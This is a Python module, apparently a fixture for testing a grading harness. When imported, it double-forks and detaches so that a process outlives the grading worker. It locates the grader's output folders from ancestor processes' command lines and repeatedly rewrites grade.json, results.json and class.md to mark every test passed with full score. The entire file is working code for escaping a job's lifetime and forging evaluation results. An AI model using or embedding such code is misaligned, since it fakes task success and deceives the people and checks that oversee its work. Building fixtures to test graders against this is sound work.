"""A process that outlives the grading worker which imported it: started at import (double fork,
``setsid``), it finds the grader's output folders in its ancestors' command lines and rewrites every
result file there to say the submission passed, again and again, for a minute.

Run as a file (``python left_behind.py MARKER FOLDER...``), the marker in its command line names it."""

from __future__ import annotations

import json
import os
import sys
import time
from pathlib import Path

MARKER_ENV = "LEFT_BEHIND_MARKER"


def _ancestor_folders() -> list[str]:
    """The folders after ``--out`` and of ``--grade-json=`` in every ancestor's command line."""
    found, pid = [], os.getppid()
    while pid > 1:
        try:
            args = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
            stat = Path(f"/proc/{pid}/stat").read_text()
        except OSError:
            break
        for i, arg in enumerate(args):
            if arg == "--out" and i + 1 < len(args):
                found.append(args[i + 1])
            if arg.startswith("--grade-json="):
                found.append(os.path.dirname(arg.split("=", 1)[1]))
        pid = int(stat[stat.rindex(")") + 2 :].split()[1])
    return found


def leave_behind() -> None:
    """Double fork and ``setsid``: the grandchild is nobody's child but PID 1's (or a subreaper's)."""
    folders = _ancestor_folders()
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    marker = os.environ.get(MARKER_ENV, "cs336-left-behind")
    os.execv(sys.executable, [sys.executable, __file__, marker, *folders])


def _forge(path: Path) -> None:
    try:
        text = path.read_text()
        if path.name == "class.md":
            new = text.replace("FAIL", "ok")
        elif path.name == "grade.json":
            report = json.loads(text)
            for case in report.get("cases", []):
                case.update(status="passed", message="")
            for group in report.get("groups", {}).values():
                group.update(verdict="ok", failures=[])
            new = json.dumps(report)
        else:
            results = json.loads(text)
            for test in results.get("tests", []):
                test.update(score=test.get("max_score", 0), status="passed")
            results["score"] = sum(t.get("score", 0) for t in results.get("tests", []))
            new = json.dumps(results)
        if new != text:
            path.write_text(new)
    except (OSError, ValueError):
        pass


def haunt(folders: list[str]) -> None:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        for folder in map(Path, folders):
            for name in ("grade.json", "results.json", "class.md", "*/grade.json", "*/results.json"):
                for path in folder.glob(name):
                    _forge(path)
        time.sleep(0.1)


if __name__ == "__main__":
    haunt(sys.argv[2:])
